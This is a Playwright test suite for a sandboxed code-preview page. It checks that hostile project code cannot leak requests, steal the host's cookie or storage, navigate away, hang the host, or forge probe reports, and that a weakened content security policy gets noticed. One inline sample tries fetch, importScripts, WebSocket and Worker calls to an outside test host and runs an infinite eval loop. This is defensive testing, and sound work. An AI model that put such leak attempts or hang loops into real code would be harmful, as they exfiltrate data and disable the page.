import { expect, type Page, test } from '@playwright/test';
import { hostilePage } from '../../harness/attacks.ts';
import { type CountingServer, startCountingServer } from '../../harness/counting-server.ts';
import { openTestPage } from '../../harness/open-test-page.ts';
import { type Project, pageWith } from '../../harness/projects.ts';
import { weakness } from '../../harness/weaken.ts';
import {
  attack,
  departureProjects,
  floodMs,
  floods,
  forgery,
  requestProject,
  targetOf,
  theftProject,
} from './hostile-scenarios.ts';

let server: CountingServer;
test.beforeAll(async () => {
  server = await startCountingServer();
});
test.afterAll(() => server.close());

async function openHost(page: Page): Promise<string> {
  await openTestPage(page, 'preview');
  await page.evaluate(() => {
    // biome-ignore lint/suspicious/noDocumentCookie: the thing to steal is an ordinary cookie.
    document.cookie = 'session=secret';
    localStorage.setItem('secret', 'yes');
    sessionStorage.setItem('secret', 'yes');
  });
  return new URL(page.url()).origin;
}

test('no request leaves a page by any known way', async ({ page }) => {
  const site = await openHost(page);
  const found = await attack(page, requestProject(targetOf(site, server)), site, server, 4_000);
  expect(found.requests).toEqual([]);
  expect(found.siteHits).toBe(0);
  expect(found.datagrams).toBe(0);
  expect(found.lines.filter((line) => line.startsWith('FOUND'))).toEqual([]);
  expect(found.events.filter((event) => event.type === 'blocked').length).toBeGreaterThan(20);
  expect(page.context().pages()).toHaveLength(1);
  expect(found).toMatchObject({ alive: true, recovered: true });
});

test('no connection is opened either', async ({ page }) => {
  const site = await openHost(page);
  const found = await attack(page, requestProject(targetOf(site, server)), site, server, 3_000);
  expect(found.connections).toBe(0);
});

test('nothing of the host can be read or changed', async ({ page }) => {
  const site = await openHost(page);
  const found = await attack(page, theftProject(targetOf(site, server)), site, server, 1_500);
  expect(found.lines.filter((line) => line.startsWith('GOT'))).toEqual([]);
  expect(await page.title()).toBe('Preview test page');
  expect(await page.evaluate(() => document.cookie)).toBe('session=secret');
  expect(found).toMatchObject({ alive: true, recovered: true });
});

test.describe('leaving the page', () => {
  for (const { name } of departureProjects({ site: '', other: '', stun: '' })) {
    test(`sends nothing: ${name}`, async ({ page }) => {
      const site = await openHost(page);
      const target = targetOf(site, server);
      const project = departureProjects(target).find((departure) => departure.name === name)?.project ?? {};
      const found = await attack(page, project, site, server, 1_200);
      expect(found.requests).toEqual([]);
      expect(found.siteHits).toBe(0);
      expect(page.url()).toContain('/tests/harness/preview.html');
      expect(found).toMatchObject({ alive: true, recovered: true });
    });
  }
});

test.describe('taking time and memory', () => {
  for (const [name, code] of Object.entries(floods)) {
    test(`leaves the host alive: ${name}`, async ({ page }) => {
      const site = await openHost(page);
      const found = await attack(page, hostilePage(code), site, server, floodMs(name));
      expect(found.events.length).toBeLessThan(1_000);
      expect(found).toMatchObject({ alive: true, recovered: true });
      expect(await page.evaluate(() => window.harness.frames())).toBe(1);
    });
  }
});

test('a page cannot forge what the probe reports', async ({ page }) => {
  await openHost(page);
  await page.evaluate((code) => window.harness.open({ '/src/main.ts': code }), forgery);
  expect(await page.evaluate(() => window.harness.text())).toBe('True heading True button True text');
  const outline = await page.evaluate(() => window.harness.outline());
  expect(JSON.stringify(outline)).not.toContain('FORGED');
  expect(JSON.stringify(outline)).toContain('"role":"button","name":"True button"');
  const measured = (await page.evaluate(() => window.harness.measureText())).find(
    (entry) => entry.text === 'True text',
  );
  expect(measured).toMatchObject({ foreground: '#777777', background: '#ffffff', ratio: 4.48 });
  const act = await page.evaluate(() =>
    window.harness.act({ do: 'click', target: { role: 'button', name: 'True button' } }),
  );
  expect(act).toEqual({ ok: true });
  const colours = await page.evaluate(() => window.harness.colours());
  expect(colours.some((use) => use.colour === '#777777' && use.use === 'text')).toBe(true);
});

test('a hostile test file neither gets out nor holds anything up', async ({ page }) => {
  const site = await openHost(page);
  const { other } = targetOf(site, server);
  server.take();
  const before = await page.evaluate(() => window.harness.pulse().ticks);
  const result = await page.evaluate((files) => window.harness.test(files, undefined, 9_000), {
    '/a.test.ts': `import { test } from 'vitest';
test('out', async () => {
  for (const send of [() => fetch('${other}/leak-test', { mode: 'no-cors' }), () => importScripts('${other}/leak-test.js'), () => new WebSocket('ws://localhost/leak'), () => new Worker(URL.createObjectURL(new Blob(['fetch("${other}/leak-nested")'])))]) {
    try { await send(); } catch {}
  }
});
test('hang', () => { (0, eval)('for (;;) {}'); });`,
  });
  expect(result.exitCode).toBe(130);
  expect(server.take().requests).toEqual([]);
  // The host's own timer went on while the test hung.
  expect(await page.evaluate(() => window.harness.pulse().ticks)).toBeGreaterThan(before);
  const after = await page.evaluate((files) => window.harness.test(files), {
    '/b.test.ts': `import { expect, test } from 'vitest'; test('fine', () => expect(1).toBe(1));`,
  });
  expect(after).toMatchObject({ exitCode: 0, passed: 1 });
});

test.describe('the suite notices a weakened boundary', () => {
  let site = '';
  let weaken: (from: string, to: string) => Promise<void>;
  let start: (page: Page, project: Project) => Promise<void>;
  let arrived: string[] = [];
  let connections = 0;
  const requestsSoFar = () => {
    const taken = server.take();
    arrived.push(...taken.requests);
    connections += taken.connections;
    return arrived;
  };
  test.beforeEach(({ baseURL, context }) => {
    site = baseURL ?? '';
    weaken = (from, to) => context.addCookies([weakness(site, from, to)]);
    start = async (page, project) => {
      await openHost(page);
      server.take();
      arrived = [];
      connections = 0;
      await page.evaluate((files) => window.harness.start(files), project);
    };
  });

  test('connections allowed', async ({ page }) => {
    await weaken("connect-src 'none'", 'connect-src *');
    await start(page, requestProject(targetOf(site, server)));
    await expect.poll(requestsSoFar).toContain('GET /leak-fetch');
  });

  test('pictures allowed', async ({ page }) => {
    await weaken('img-src data: blob:', 'img-src *');
    await start(page, requestProject(targetOf(site, server)));
    await expect.poll(requestsSoFar).toContain('GET /leak-img');
  });

  test('a host page without frame-src', async ({ page }) => {
    await weaken(`frame-src ${site}/preview/;`, '');
    const [first] = departureProjects(targetOf(site, server));
    await start(page, first?.project ?? {});
    await expect.poll(requestsSoFar).toContain('GET /leak-href');
  });

  test('connections ahead allowed', async ({ page }) => {
    await weaken('sandbox', 'sandbox');
    await start(page, requestProject(targetOf(site, server)));
    await expect.poll(() => requestsSoFar() && connections).toBeGreaterThan(0);
    expect(arrived).toEqual([]);
  });

  test('the listener for datagrams hears WebRTC of a page that has it', async ({ page }) => {
    await openHost(page);
    server.take();
    await page.evaluate((stun) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      peer.createDataChannel('x');
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    }, `stun:127.0.0.1:${server.udpPort}`);
    await expect.poll(() => server.take().datagrams).toBeGreaterThan(0);
  });
});

test('an ordinary form works inside the page', async ({ page }) => {
  await openHost(page);
  await page.evaluate(
    (files) => window.harness.open(files),
    pageWith(
      `  const [sent, setSent] = useState('not sent');
  return <form onSubmit={(event) => { event.preventDefault(); setSent('sent'); }}><button>Send</button><p>{sent}</p></form>;`,
      "import { useState } from 'react';",
    ),
  );
  await page.evaluate(() => window.harness.act({ do: 'click', target: { role: 'button', name: 'Send' } }));
  expect(await page.evaluate(() => window.harness.text())).toContain('sent');
});
